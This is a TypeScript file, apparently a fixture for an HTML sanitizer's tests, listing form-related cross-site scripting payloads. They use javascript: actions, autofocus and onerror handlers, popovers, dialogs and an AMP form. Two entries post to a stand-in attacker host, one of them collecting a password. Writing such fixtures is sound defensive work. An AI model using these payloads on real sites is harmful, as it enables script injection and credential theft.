import type { Attack } from './attack.ts';

/** Forms send, ask and run. */
export const forms: readonly Attack[] = [
  {
    name: 'a form to a script',
    html: '<form action="javascript:alert(1)"><input type=submit value=go></form>',
  },
  {
    name: 'a form to another host',
    html: '<form action=https://evil.example/ method=post><label>Password <input name=password type=password></label></form>',
  },
  {
    name: 'a button with a form’s action',
    html: '<button form=f formaction="javascript:alert(1)">go</button><form id=f></form>',
  },
  {
    name: 'a picture that submits',
    html: '<input type=image src=x onerror=alert(1) formaction="javascript:alert(1)">',
  },
  { name: 'a field that takes the focus', html: '<input autofocus onfocus=alert(1)>' },
  { name: 'a list that takes the focus', html: '<select autofocus onfocus=alert(1)><option>a</select>' },
  { name: 'an area that takes the focus', html: '<textarea autofocus onfocus=alert(1)>word</textarea>' },
  { name: 'a key for a hidden field', html: '<input type=hidden accesskey=x onclick=alert(1)>' },
  { name: 'an old index', html: '<isindex type=image src=1 onerror=alert(1) action="javascript:alert(1)">' },
  { name: 'an output', html: '<form oninput="alert(1)"><output onforminput=alert(1)>word</output></form>' },
  { name: 'key generation', html: '<keygen autofocus onfocus=alert(1)>' },
  {
    name: 'a dialogue',
    html: '<dialog open onclose=alert(1)><form method=dialog><button>go</button></form></dialog>',
  },
  {
    name: 'a popover',
    html: '<button popovertarget=p>go</button><div id=p popover onbeforetoggle=alert(1)>word</div>',
  },
  {
    name: 'AMP’s form',
    html: '<form method=post action-xhr="https://evil.example/" on="submit-success:AMP.navigateTo(url=javascript:alert(1))"><input name=a></form>',
  },
];
